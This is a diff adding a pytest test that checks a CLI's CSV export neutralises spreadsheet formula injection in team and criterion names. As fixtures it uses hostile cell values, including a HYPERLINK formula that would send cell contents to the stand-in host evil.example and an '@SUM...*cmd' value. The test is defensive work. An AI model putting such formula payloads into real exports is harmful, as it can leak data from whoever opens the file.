@@ -231,3 +231,24 @@ def test_the_demo_without_a_screen_runs_the_headless_host(tmp_path: Path) -> Non
     assert process.returncode == 0, err
     assert "no screen here" in err
     assert "Traceback" not in err
+
+
+def test_export_csv_neutralises_names_that_start_like_formulas(tmp_path: Path) -> None:
+    """Issue 15 item 9: `=HYPERLINK(...)` in a team name must not become a live formula."""
+    db = tmp_path / "host.db"
+    host = Replica.open(db)
+    seed_demo(host)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    host.admin("team.put", {"id": "team-aurora", "name": formula, "location": "@SUM(1+1)*cmd"})
+    host.admin("team.put", {"id": "-1-1", "name": "+Mallory", "location": "-Hall"})
+    criterion = next(c for c in host.state.criteria() if c["id"] == "design")
+    host.admin("criterion.put", {**criterion, "name": "=1+1"})
+    host.close()
+    result = run_cli("export", "--db", str(db), "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert "'=1+1 (mean)" in rows[0]
+    assert ["'-1-1", "'+Mallory", "'-Hall"] in [row[1:4] for row in rows]
+    assert ["team-aurora", "'" + formula, "'@SUM(1+1)*cmd"] in [row[1:4] for row in rows]
